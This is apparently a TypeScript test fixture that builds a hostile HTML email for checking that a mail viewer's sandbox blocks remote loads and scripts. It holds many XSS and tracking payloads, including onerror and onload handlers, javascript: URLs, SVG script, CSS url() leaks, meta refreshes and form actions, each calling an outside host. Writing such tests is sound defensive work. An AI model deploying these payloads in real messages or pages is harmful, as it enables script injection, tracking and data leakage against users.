/** A mail that tries what mails have tried. Whatever it reaches is at `host`; `sandbox` is the page that shows it. */
export const hostileHtml = (host: string, sandbox: string): string => {
  const at = (name: string) => `http://${host}/${name}`
  const run = (name: string) => `new Image().src='${at(name)}';fetch('${at(name)}');document.title='pwned';top.pwned=1`
  return `<!doctype html>
<html>
<head>
<meta charset="utf-7">
<meta http-equiv="refresh" content="0;url=${at("refresh")}">
<meta http-equiv="refresh" content="0;url=${sandbox}/view/latest.html?remote=true">
<meta http-equiv="x-dns-prefetch-control" content="on">
<base href="${at("base/")}">
<link rel="stylesheet" href="${at("link-stylesheet")}">
<link rel="preconnect" href="http://${host}">
<LINK REL="preconnect" HREF="http://${host}" crossorigin>
<link rel="dns-prefetch" href="//${host}">
<link rel="prefetch" href="${at("link-prefetch")}">
<link rel="preload" as="image" href="${at("link-preload")}">
<link rel="modulepreload" href="${at("link-modulepreload")}">
<link rel="icon" href="${at("link-icon")}">
<link rel="manifest" href="${at("link-manifest")}">
<link rel="import" href="${at("link-import")}">
<script>${run("script")}</script>
<script src="${at("script-src")}"></script>
<script type="module">import "${at("script-module")}"</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at("speculation")}"]}]}</script>
<style>
@import url("${at("css-import")}");
@font-face { font-family: leak; src: url("${at("css-font")}"); }
body { background: url("${at("css-background")}"); font-family: leak; }
input[value^="s"] { background: url("${at("css-attribute")}"); }
@media (min-width: 1px) { p { border-image: url("${at("css-media")}") 1; } }
li { list-style: url("${at("css-list")}"); cursor: url("${at("css-cursor")}"), auto; }
div::before { content: url("${at("css-content")}"); }
div { mask: url("${at("css-mask")}#m"); filter: url("${at("css-filter")}#f"); }
</style>
</head>
<body background="${at("body-background")}" onload="${run("onload")}" onpageshow="${run("onpageshow")}">
<h1>Hostile</h1>
<img src="${at("img")}" srcset="${at("srcset")} 2x" onerror="${run("onerror")}">
<img src="x" onerror="${run("onerror-2")}">
<img src="${sandbox}/api/v1/messages">
<picture><source srcset="${at("source")}"><img src="${at("picture")}" loading="eager"></picture>
<video src="${at("video")}" poster="${at("poster")}" autoplay muted><track src="${at("track")}" default></video>
<audio src="${at("audio")}" autoplay></audio>
<input type="image" src="${at("input-image")}"><input value="secret" autofocus onfocus="${run("onfocus")}">
<table background="${at("table-background")}"><tr><td background="${at("cell-background")}">x</td></tr></table>
<iframe src="${at("iframe")}"></iframe>
<iframe src="javascript:${run("iframe-javascript")}"></iframe>
<iframe srcdoc="<script>${run("srcdoc")}</script><img src='${at("srcdoc-img")}'>"></iframe>
<iframe src="${sandbox}/view/latest.html?remote=true"></iframe>
<object data="${at("object")}"></object><embed src="${at("embed")}">
<svg xmlns="http://www.w3.org/2000/svg" onload="${run("svg-onload")}">
<script>${run("svg-script")}</script><script href="${at("svg-script-href")}"></script>
<image href="${at("svg-image")}"/><use href="${at("svg-use")}#x"/><feImage href="${at("svg-feimage")}"/>
<animate attributeName="x" onbegin="${run("svg-onbegin")}"/><foreignObject><img src="${at("svg-foreign")}"></foreignObject>
<a href="javascript:${run("svg-a")}"><text>svg</text></a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:${run("math")}">x</maction></math>
<details open ontoggle="${run("ontoggle")}"><summary>x</summary></details>
<marquee onstart="${run("onstart")}">x</marquee>
<form id="f" action="${at("form")}" method="post"><button id="submit">Unsubscribe</button></form>
<button id="formaction" form="f" formaction="${at("formaction")}">Confirm</button>
<a id="script-link" href="javascript:${run("javascript-link")}">Script</a>
<a id="same-frame" href="${at("same-frame")}" target="_self">Same frame</a>
<a id="parent-frame" href="${at("parent-frame")}" target="_parent">Parent frame</a>
<a id="top-frame" href="${at("top-frame")}" target="_top">Top frame</a>
<a id="download" href="data:text/html,<script>1</script>" download="run-me.html">Download</a>
<div style="position:fixed;inset:0;width:1px;height:1px;background:url(${at("style-attribute")})"></div>
<ul><li>x</li></ul><p>y</p><div>z</div>
</body></html>
</iframe></div></main><script>${run("after-the-end")}</script>`
}

/** In places that are shown as text. */
export const hostileText = (host: string): string =>
  `"><img src=x onerror="fetch('http://${host}/text')"><script>fetch('http://${host}/text-script')</script>{{7*7}}`
